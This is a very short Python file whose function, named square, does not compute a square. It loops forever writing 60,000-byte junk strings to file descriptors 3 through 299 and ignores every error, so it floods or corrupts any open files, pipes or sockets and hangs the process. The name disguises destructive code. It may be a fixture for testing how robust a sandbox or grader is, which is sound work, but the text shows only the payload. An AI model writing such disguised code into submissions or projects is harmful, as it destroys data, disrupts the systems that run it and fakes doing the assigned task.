import os


def square(n):
    while True:
        for descriptor in range(3, 300):
            try:
                os.write(descriptor, b"x" * 60000)
            except OSError:
                pass
